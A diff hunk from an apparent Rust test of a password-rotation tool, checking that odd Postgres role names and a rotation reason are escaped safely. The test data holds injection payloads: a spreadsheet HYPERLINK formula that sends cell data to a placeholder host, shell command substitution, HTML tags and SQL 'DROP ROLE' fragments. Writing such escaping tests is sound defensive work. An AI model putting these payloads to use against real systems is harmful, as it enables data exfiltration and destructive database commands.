@@ -39,7 +39,7 @@ fn odd_names_go_through_a_rotation_and_odd_texts_come_out_harmless() {
 
     stack.scene("roles with odd names, and a reason that a spreadsheet would carry out");
     const REASON: &str = "=HYPERLINK(\"http://x/?\"&A1) <b>$(id)</b> `id` -- ; DROP ROLE x";
-    stack.turnlock("plan POSTGRES_PASSWORD").ok().says("role a\"; DROP ROLE x; --");
+    stack.turnlock("plan POSTGRES_PASSWORD").ok().says("ALTER ROLE \"a\"\"; DROP ROLE x; --\" PASSWORD");
     stack.turnlock(&format!("rotate POSTGRES_PASSWORD --yes --reason '{REASON}'")).ok();
     let new = vault.newest("POSTGRES_PASSWORD");
     assert!(new != password);
